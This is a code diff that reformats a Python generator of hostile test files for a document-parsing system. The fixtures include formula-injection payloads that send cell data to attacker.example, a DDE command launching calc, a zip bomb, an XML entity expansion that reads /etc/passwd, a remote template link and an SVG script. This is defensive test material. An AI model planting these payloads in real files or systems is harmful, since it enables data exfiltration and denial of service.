@@ -36,7 +36,7 @@ CORPUS: dict[str, str] = {
     "script.svg": "an SVG image with an embedded script and event handler",
     "far_cell.xlsx": "survey-like sheet with one more cell at XFD1048576: a reader sizes a 512 GB grid (2 KB file)",
     "far_cell_within_limit.xlsx": "one more cell at KN150000: column 300 and row 150 000 each allowed, 45 M cells together",
-    "whole_sheet_dimension.xlsx": "a few cells under <dimension ref=\"A1:XFD1048576\">: openpyxl pads every row to it",
+    "whole_sheet_dimension.xlsx": 'a few cells under <dimension ref="A1:XFD1048576">: openpyxl pads every row to it',
 }
 
 
@@ -123,10 +123,15 @@ def formula_cell(ref: str, formula: str) -> bytes:
 
 
 def workbook(sheet_xml: bytes) -> bytes:
-    return zip_bytes({
-        "[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": WORKBOOK,
-        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS, "xl/worksheets/sheet1.xml": sheet_xml,
-    })
+    return zip_bytes(
+        {
+            "[Content_Types].xml": CONTENT_TYPES,
+            "_rels/.rels": ROOT_RELS,
+            "xl/workbook.xml": WORKBOOK,
+            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
+            "xl/worksheets/sheet1.xml": sheet_xml,
+        }
+    )
 
 
 def small_workbook() -> bytes:
@@ -141,12 +146,20 @@ def small_workbook() -> bytes:
 
 def formula_cells() -> bytes:
     payloads = [
-        "1+1", 'HYPERLINK("http://attacker.example/steal?d="&A1,"Bấm vào đây")', "cmd|' /C calc'!A0",
-        'WEBSERVICE("http://attacker.example/")', "SUM(1,1)*100", "IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
+        "1+1",
+        'HYPERLINK("http://attacker.example/steal?d="&A1,"Bấm vào đây")',
+        "cmd|' /C calc'!A0",
+        'WEBSERVICE("http://attacker.example/")',
+        "SUM(1,1)*100",
+        'IMPORTXML(CONCAT("http://x/?",A1),"//a")',
     ]
-    header = b'<row r="1">' + b"".join(
-        inline_cell(f"{column_letter(c)}1", v) for c, v in enumerate(["unit_code", "form_id", "Q1", "Q2", "Q3"])
-    ) + b"</row>"
+    header = (
+        b'<row r="1">'
+        + b"".join(
+            inline_cell(f"{column_letter(c)}1", v) for c, v in enumerate(["unit_code", "form_id", "Q1", "Q2", "Q3"])
+        )
+        + b"</row>"
+    )
     rows = []
     for r, payload in enumerate(payloads, start=2):
         cells = [formula_cell(f"{column_letter(c)}{r}", payload) for c in range(3)]
@@ -161,8 +174,16 @@ def far_cell(ref: str) -> bytes:
     row = [inline_cell("A2", "SNV"), inline_cell("B2", "F1"), inline_cell("C2", "5")]
     far_row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
     return workbook(
-        SHEET_HEAD + b'<row r="1">' + b"".join(header) + b'</row><row r="2">' + b"".join(row) + b"</row>"
-        + f'<row r="{far_row}">'.encode() + inline_cell(ref, "x") + b"</row>" + SHEET_TAIL
+        SHEET_HEAD
+        + b'<row r="1">'
+        + b"".join(header)
+        + b'</row><row r="2">'
+        + b"".join(row)
+        + b"</row>"
+        + f'<row r="{far_row}">'.encode()
+        + inline_cell(ref, "x")
+        + b"</row>"
+        + SHEET_TAIL
     )
 
 
@@ -181,8 +202,12 @@ def zip_bomb() -> bytes:
     filler = 80 * 1024 * 1024
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
-        for name, data in (("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", ROOT_RELS),
-                           ("xl/workbook.xml", WORKBOOK), ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)):
+        for name, data in (
+            ("[Content_Types].xml", CONTENT_TYPES),
+            ("_rels/.rels", ROOT_RELS),
+            ("xl/workbook.xml", WORKBOOK),
+            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
+        ):
             z.writestr(zipfile.ZipInfo(name, date_time=FIXED_TIME), data, compress_type=zipfile.ZIP_DEFLATED)
         info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=FIXED_TIME)
         info.compress_type = zipfile.ZIP_DEFLATED
@@ -198,14 +223,14 @@ def zip_bomb() -> bytes:
 def duplicate_central_entry(data: bytes, name: str, copies: int) -> bytes:
     """Append ``copies`` more central-directory records for ``name`` (same local data) and fix the end record."""
     eocd_at = data.rindex(b"PK\x05\x06")
-    (_, _, _, _, count, cd_size, cd_offset, comment_len) = struct.unpack("<4s4H2LH", data[eocd_at:eocd_at + 22])
-    central = data[cd_offset:cd_offset + cd_size]
+    (_, _, _, _, count, cd_size, cd_offset, comment_len) = struct.unpack("<4s4H2LH", data[eocd_at : eocd_at + 22])
+    central = data[cd_offset : cd_offset + cd_size]
     pos, target = 0, None
     while pos < len(central):
-        name_len, extra_len, comment_len_entry = struct.unpack("<3H", central[pos + 28:pos + 34])
+        name_len, extra_len, comment_len_entry = struct.unpack("<3H", central[pos + 28 : pos + 34])
         size = 46 + name_len + extra_len + comment_len_entry
-        if central[pos + 46:pos + 46 + name_len] == name.encode():
-            target = central[pos:pos + size]
+        if central[pos + 46 : pos + 46 + name_len] == name.encode():
+            target = central[pos : pos + size]
         pos += size
     assert target is not None
     central += target * copies
@@ -214,9 +239,7 @@ def duplicate_central_entry(data: bytes, name: str, copies: int) -> bytes:
 
 
 def xml_entities() -> bytes:
-    entities = '<!ENTITY a0 "ha">' + "".join(
-        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
-    )
+    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
     sheet = (
         '<?xml version="1.0" encoding="UTF-8"?>'
         f'<!DOCTYPE worksheet [{entities}<!ENTITY ext SYSTEM "file:///etc/passwd">]>'
@@ -259,9 +282,17 @@ W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
 
 
 def docx(body: bytes, extra: dict[str, bytes] | None = None) -> bytes:
-    document = b'<?xml version="1.0" encoding="UTF-8"?><w:document ' + W + b"><w:body>" + body + b"</w:body></w:document>"
-    return zip_bytes({"[Content_Types].xml": DOCX_TYPES, "_rels/.rels": DOCX_ROOT_RELS, "word/document.xml": document,
-                      **(extra or {})})
+    document = (
+        b'<?xml version="1.0" encoding="UTF-8"?><w:document ' + W + b"><w:body>" + body + b"</w:body></w:document>"
+    )
+    return zip_bytes(
+        {
+            "[Content_Types].xml": DOCX_TYPES,
+            "_rels/.rels": DOCX_ROOT_RELS,
+            "word/document.xml": document,
+            **(extra or {}),
+        }
+    )
 
 
 def paragraph(text: str) -> bytes:
@@ -277,15 +308,23 @@ def rels(*relationships: tuple[str, str, str]) -> bytes:
         f'Target="{target}"{EXTERNAL if target.startswith("http") else ""}/>'
         for rid, kind, target in relationships
     )
-    return ('<?xml version="1.0" encoding="UTF-8"?>'
-            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>').encode()
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'
+    ).encode()
 
 
 def workbook_with(sheet_xml: bytes, extra: dict[str, bytes]) -> bytes:
-    return zip_bytes({
-        "[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": WORKBOOK,
-        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS, "xl/worksheets/sheet1.xml": sheet_xml, **extra,
-    })
+    return zip_bytes(
+        {
+            "[Content_Types].xml": CONTENT_TYPES,
+            "_rels/.rels": ROOT_RELS,
+            "xl/workbook.xml": WORKBOOK,
+            "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
+            "xl/worksheets/sheet1.xml": sheet_xml,
+            **extra,
+        }
+    )
 
 
 def ole_with_vba() -> bytes:
@@ -309,8 +348,12 @@ def build_active() -> dict[str, bytes]:
         ),
         "external_link.xlsx": workbook_with(
             a1 + b'<row r="2">' + formula_cell("A2", "[1]Sheet1!A1") + b"</row>" + SHEET_TAIL,
-            {"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
-             "xl/externalLinks/_rels/externalLink1.xml.rels": rels(("rId1", "externalLinkPath", "http://attacker.example/a.xlsx"))},
+            {
+                "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+                "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
+                    ("rId1", "externalLinkPath", "http://attacker.example/a.xlsx")
+                ),
+            },
         ),
         "remote_template.docx": docx(
             paragraph("Mẫu"),
@@ -357,7 +400,11 @@ def build() -> dict[str, bytes]:
         "far_cell_within_limit.xlsx": far_cell("KN150000"),
         "whole_sheet_dimension.xlsx": workbook(
             SHEET_HEAD.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
-            + b'<row r="1">' + inline_cell("A1", "code") + inline_cell("B1", "name") + b"</row>" + SHEET_TAIL
+            + b'<row r="1">'
+            + inline_cell("A1", "code")
+            + inline_cell("B1", "name")
+            + b"</row>"
+            + SHEET_TAIL
         ),
         "script.svg": (
             b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script>'
